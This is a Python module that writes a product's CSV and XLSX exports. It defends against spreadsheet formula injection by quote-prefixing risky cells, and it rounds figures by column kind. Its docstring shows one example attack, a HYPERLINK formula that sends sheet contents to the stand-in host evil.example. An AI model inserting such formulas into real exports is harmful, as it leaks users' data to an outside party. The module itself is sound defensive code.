"""The one writer for every table the product exports as CSV or XLSX.

A spreadsheet program runs a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return, which some programs skip before looking) as a formula: a group or person
named ``=HYPERLINK("https://evil.example/?"&A1, "Open")`` would become a live link that sends
the sheet's contents away, or worse (OWASP, "CSV Injection",
https://owasp.org/www-community/attacks/CSV_Injection). Every CSV and XLSX the product writes
goes through this module, so no export can forget the rule:

- CSV: a text cell that starts with one of those characters gets a leading single quote, as
  OWASP advises; a text cell that is a plain number (``-12.50``) is a number, not a formula, and
  is left alone. Numbers, dates and empty cells are written as they are.
- XLSX: text is always written as a string cell (never a formula); a string that would read as a
  formula also carries Excel's "quote prefix" style, so editing the cell keeps it text. Numbers
  stay numbers. Characters XML cannot hold (control characters) are replaced by U+FFFD rather
  than failing the whole download.

Figures are rounded the same way in both: a column's *kind* (or a cell given as
``Figure(value, kind)``) says how many places it keeps and, in XLSX, its number format
(`KINDS`: whole numbers ``#,##0``, rates ``#,##0.0``, proportions ``0.0%``, money
``£#,##0.00`` …). A float with no kind keeps six significant figures, so no export carries
binary noise such as 92.7889803075263.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
import re
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from decimal import ROUND_HALF_UP, Decimal
from typing import Any, NamedTuple, TextIO

__all__ = [
    "FORMULA_STARTS",
    "KINDS",
    "Figure",
    "Sheet",
    "csv_text",
    "neutralise",
    "round_figure",
    "rounded_rows",
    "write_csv",
    "xlsx_bytes",
]

#: A text cell starting with any of these is read as a formula by some spreadsheet program.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
_NATIVE = (int, float, Decimal, dt.date, dt.time)
# XML 1.0 cannot hold these; openpyxl refuses them (its ILLEGAL_CHARACTERS_RE).
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _places(places: int) -> Callable[[float], float | int]:
    """Round half away from zero (as a spreadsheet shows it, not Python's half to even), from
    the figure as written (repr), so 2.675 is 2.68 as a reader expects."""
    step = Decimal(1).scaleb(-places)

    def rounder(value: float) -> float | int:
        out = Decimal(repr(value)).quantize(step, rounding=ROUND_HALF_UP)
        return int(out) if places == 0 else float(out) + 0.0  # no "-0.0"

    return rounder


def _significant(figures: int) -> Callable[[float], float]:
    def rounder(value: float) -> float:
        if value == 0 or not math.isfinite(value):
            return value
        return round(value, figures - 1 - math.floor(math.log10(abs(value)))) + 0.0

    return rounder


def _money(value: float) -> Decimal:
    return Decimal(str(value)).quantize(Decimal("0.01"), rounding=ROUND_HALF_UP)


#: Kinds of figure: how a figure of the kind is rounded, and its Excel number format. The
#: first names are the product's (an assessment table's column formats use int, rate, pct,
#: ratio, ratio3 and p).
KINDS: dict[str, tuple[Callable[[Any], Any], str]] = {
    "int": (_places(0), "#,##0"),
    "rate": (_places(1), "#,##0.0"),
    "pct": (_places(3), "0.0%"),  # a proportion: 0.347 is shown 34.7%
    "ratio": (_places(3), "0.000"),
    "ratio3": (_places(3), "0.000"),
    "p": (_significant(3), '[<0.001]"<0.001";0.000'),
    "money": (_money, "£#,##0.00"),
    "percent": (_places(1), '0.0"%"'),  # already in percent: 34.7 is shown 34.7%
    "decimal": (_places(2), "#,##0.00"),
}
KINDS["integer"] = KINDS["count"] = KINDS["int"]
KINDS["proportion"] = KINDS["pct"]
#: A float with no kind keeps this many significant figures.
DEFAULT_FIGURES = 6


class Figure(NamedTuple):
    """A cell that is a figure of a kind (see `KINDS`): rounded in CSV and XLSX alike, and
    formatted in XLSX. Use it where one column holds figures of different kinds."""

    value: Any
    kind: str | None


def round_figure(value: Any, kind: str | None = None) -> Any:
    """`value` rounded as its kind says; text, dates, booleans and None are left as they are.

    >>> round_figure(92.7889803075263, "rate"), round_figure(0.34745962711978695, "pct")
    (92.8, 0.347)
    >>> round_figure(2225.0, "int"), round_figure(9.232808726730876e-29, "p")
    (2225, 9.23e-29)
    >>> round_figure(1234.565, "money"), round_figure(92.7889803075263)
    (Decimal('1234.57'), 92.789)
    >>> round_figure("n/a", "rate"), round_figure(None, "int"), round_figure(7, "rate")
    ('n/a', None, 7)
    >>> round_figure(2.5, "int"), round_figure(-1.5, "int"), round_figure(2.675, "decimal")
    (3, -2, 2.68)
    """
    if isinstance(value, Figure):
        value, kind = value.value, value.kind or kind
    if isinstance(value, bool) or not isinstance(value, int | float | Decimal):
        return value
    if kind in KINDS:
        if isinstance(value, float) and not math.isfinite(value):
            return None
        if isinstance(value, int) and kind not in ("money",):
            return value
        return KINDS[kind][0](float(value) if kind != "money" else value)
    if isinstance(value, float):
        return _significant(DEFAULT_FIGURES)(value) if math.isfinite(value) else None
    return value


def _kind_of(value: Any, kinds: Sequence[str | None], column: int) -> str | None:
    if isinstance(value, Figure):
        return value.kind
    return kinds[column] if column < len(kinds) else None


def rounded_rows(
    rows: Iterable[Sequence[Any]], kinds: Sequence[str | None] = ()
) -> Iterable[list[Any]]:
    """The rows with each figure rounded by its column's kind (`kinds`, from the first
    column) or its own (`Figure`); floats of no kind keep six significant figures."""
    for row in rows:
        yield [round_figure(v, _kind_of(v, kinds, c)) for c, v in enumerate(row)]


def _risky(text: str) -> bool:
    return text[:1] in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(text)


def neutralise(value: Any) -> Any:
    """The cell as a spreadsheet should receive it from a CSV file.

    Text that a spreadsheet would run as a formula gets a leading single quote; numbers, dates,
    booleans and None are returned unchanged, and so is text that is a plain number.

    >>> neutralise('=HYPERLINK("http://x","y")')
    '\\'=HYPERLINK("http://x","y")'
    >>> neutralise("@SUM(A1)"), neutralise("\\tcmd")
    ("'@SUM(A1)", "'\\tcmd")
    >>> neutralise(-3), neutralise("-12.50"), neutralise("- a note")
    (-3, '-12.50', "'- a note")
    """
    if value is None or isinstance(value, (bool, *_NATIVE)):
        return value
    text = value if isinstance(value, str) else str(value)
    return "'" + text if _risky(text) else text


def write_csv(
    sink: TextIO,
    rows: Iterable[Sequence[Any]],
    *,
    header: Sequence[Any] | None = None,
    lineterminator: str = "\n",
    kinds: Sequence[str | None] = (),
) -> None:
    """Write `header` (if given) and `rows` to `sink` as CSV, every cell through `neutralise`,
    every figure rounded by its kind (`rounded_rows`).

    None is written as an empty cell (as `csv.writer` does).
    """
    writer = csv.writer(sink, lineterminator=lineterminator)
    # The csv module quotes a field holding a character of the line terminator, not any line
    # break: with "\n" a bare carriage return would be written unquoted and start a new row
    # in a spreadsheet (whose first cell could be a formula). Such rows quote their text.
    quoted = csv.writer(sink, lineterminator=lineterminator, quoting=csv.QUOTE_NONNUMERIC)
    for row in [header] if header is not None else []:
        writer.writerow([neutralise(v) for v in row])
    for row in rounded_rows(rows, kinds):
        cells = [neutralise(v) for v in row]
        bare_cr = "\r" not in lineterminator and any(
            isinstance(v, str) and "\r" in v for v in cells
        )
        (quoted if bare_cr else writer).writerow(cells)


def csv_text(
    rows: Iterable[Sequence[Any]],
    *,
    header: Sequence[Any] | None = None,
    lineterminator: str = "\n",
    kinds: Sequence[str | None] = (),
) -> str:
    """`header` and `rows` as CSV text (see `write_csv`).

    >>> print(csv_text([["=1+1", 2]], header=["a", "b"]), end="")
    a,b
    '=1+1,2
    """
    sink = io.StringIO()
    write_csv(sink, rows, header=header, lineterminator=lineterminator, kinds=kinds)
    return sink.getvalue()


@dataclass
class Sheet:
    """One worksheet: an optional bold header row, then `rows` (an empty row stays empty).

    `kinds` names the kind of figure of each column from column A (see `KINDS`): its figures
    are rounded and given the kind's number format (a `Figure` cell carries its own kind).
    `number_formats` maps a 1-based column to an Excel number format applied to the numeric
    cells of that column below the header (it wins over the kind's); `widths` sets column
    widths from column A on.
    """

    title: str
    rows: Sequence[Sequence[Any]]
    header: Sequence[Any] | None = None
    number_formats: dict[int, str] = field(default_factory=dict)
    widths: Sequence[float] = ()
    kinds: Sequence[str | None] = ()


def _xlsx_value(value: Any) -> Any:
    if value is None or isinstance(value, (bool, *_NATIVE)):
        return value
    text = value if isinstance(value, str) else str(value)
    return _ILLEGAL_XML.sub("\ufffd", text)


def _title(text: str) -> str:
    # Excel refuses these characters in a sheet name, and names longer than 31.
    return re.sub(r"[\[\]:*?/\\]", "-", text)[:31] or "Sheet"


def xlsx_bytes(sheets: Iterable[Sheet]) -> bytes:
    """An XLSX workbook of `sheets` (openpyxl) in which no text cell is ever a formula."""
    from openpyxl import Workbook
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    book = Workbook()
    book.remove(book.active)
    for spec in sheets:
        sheet = book.create_sheet(_title(spec.title))
        rows = list(spec.rows)
        if spec.header is not None:
            rows = [spec.header, *rows]
        for r, row in enumerate(rows, start=1):
            is_header = spec.header is not None and r == 1
            for c, raw in enumerate(row, start=1):
                kind = None if is_header else _kind_of(raw, spec.kinds, c - 1)
                value = _xlsx_value(raw if is_header else round_figure(raw, kind))
                if value is None:
                    continue
                cell = sheet.cell(r, c)
                cell.value = value
                if isinstance(value, str):
                    # openpyxl would store "=…" as a formula; a string cell is never run.
                    cell.data_type = "s"
                    if _risky(value):
                        cell.quotePrefix = True
                elif not is_header and c in spec.number_formats and not isinstance(value, bool):
                    cell.number_format = spec.number_formats[c]
                elif kind in KINDS and not isinstance(value, bool | dt.date | dt.time):
                    cell.number_format = KINDS[kind][1]
                if is_header:
                    cell.font = Font(bold=True)
        for c, width in enumerate(spec.widths, start=1):
            sheet.column_dimensions[get_column_letter(c)].width = width
    if not book.worksheets:
        book.create_sheet("Sheet")
    sink = io.BytesIO()
    book.save(sink)
    return sink.getvalue()
